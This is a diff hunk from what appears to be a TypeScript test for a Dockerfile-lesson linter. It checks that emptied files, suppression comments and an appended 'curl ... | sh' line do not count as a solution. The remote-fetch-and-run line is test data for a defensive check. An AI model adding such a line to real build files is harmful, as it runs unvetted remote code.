@@ -69,7 +69,7 @@ test("what finishes nothing: an emptied file, a hushing comment, a broken file, 
   const [solved] = lesson("user").solution;
   for (const [text, words] of [
     ["\n", /bring it back/],
-    [`# cozydock ignore=runs-as-root,sudo-in-build\n${start?.text}`, /a comment asks/],
+    [start?.text.replace(/^(FROM|RUN sudo)/gm, "# cozydock ignore=runs-as-root,sudo-in-build\n$1") ?? "", /a comment asks/],
     [`${solved?.text}RUN curl -fsSL https://example.com/x | sh\n`, /Something serious is new/],
   ] as const) {
     await room.type(text);
